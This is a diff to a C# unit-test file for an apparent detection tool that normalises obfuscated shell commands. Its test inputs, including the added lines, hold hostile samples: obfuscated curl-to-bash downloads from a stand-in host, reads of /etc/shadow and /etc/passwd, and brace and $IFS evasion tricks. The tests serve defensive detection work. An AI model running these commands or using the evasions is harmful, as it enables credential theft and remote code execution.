@@ -29,7 +29,8 @@ namespace B64Hunt.Tests.ShellReading
         [InlineData(@"$'\x63\x75\x72\x6c' -s http://example.top/x.sh | $'\142\141\163\150'", "curl -s http://example.top/x.sh | bash")]
         [InlineData(@"cat${IFS}/etc/shadow", "cat /etc/shadow")]
         [InlineData(@"cat$IFS/etc/shadow", "cat /etc/shadow")]
-        [InlineData(@"{cat,/etc/shadow}", "{cat,/etc/shadow}")]
+        [InlineData(@"{cat,/etc/shadow}", "cat /etc/shadow")]
+        [InlineData(@"{,ip,a}", "ip a")]
         [InlineData(@"a=cu;b=rl;$a$b -s http://example.top/x.sh|sh", "a=cu;b=rl;curl -s http://example.top/x.sh|sh")]
         [InlineData(@"a=cu;b=rl;c=""$a$b"";${c} -s http://example.top/x.sh|sh", "a=cu;b=rl;c=curl;curl -s http://example.top/x.sh|sh")]
         [InlineData(@"a=cu;b=rl;eval ""$a$b -s http://example.top/x.sh|sh""", "a=cu;b=rl;eval curl -s http://example.top/x.sh|sh")]
@@ -45,6 +46,7 @@ namespace B64Hunt.Tests.ShellReading
         [InlineData(@"a=cu; echo $b")]                                       // a variable that is never assigned
         [InlineData(@"x=$(curl -s http://example.top); $x")]                 // a value the reader cannot know
         [InlineData(@"echo '$IFS' """"")]
+        [InlineData(@"echo '{cat,/etc/shadow}' ""{a,b}"" {a} { id; }")]     // quoted or single: not a brace list
         [InlineData(@"IFS=$'\n'; for l in $(cat /etc/passwd); do echo $l; done")]
         [InlineData("curl -s http://example.top/x.sh | bash")]
         public void LookAlikesStayAsWritten(string decoded)
@@ -64,6 +66,7 @@ namespace B64Hunt.Tests.ShellReading
         [InlineData(@"a=cu;b=rl;eval ""$a$b -s http://example.top/x.sh|sh""", new[] { "eval", "curl", "sh" })]
         [InlineData(@"export P=/usr/bin/wg; ${P}et http://example.top/m", new[] { "export", "wget" })]
         [InlineData(@"cat${IFS}/etc/shadow", new[] { "cat" })]
+        [InlineData(@"{cat,/etc/shadow}", new[] { "cat" })]
         [InlineData(@"a=cu; $a$b x", new[] { "cu$b" })]
         public void TheReaderResolvesTheSameSplices(string text, string[] names)
         {
